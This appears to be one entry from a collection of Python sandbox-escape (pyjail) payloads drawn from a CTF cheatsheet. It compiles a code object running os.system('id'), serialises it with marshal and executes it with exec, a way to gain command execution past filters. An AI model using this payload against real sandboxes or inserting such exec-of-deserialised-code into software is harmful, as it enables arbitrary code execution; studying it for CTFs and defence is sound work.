# Source: http://m.weizhi.cc/tech/detail-350126.html (marshal code objects); github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md
# Family: pickle-marshal
# What: marshal.loads of a serialised code object, executed with exec
import marshal
co = compile("import os; os.system('id')", "x", "exec")
exec(marshal.loads(marshal.dumps(co)))
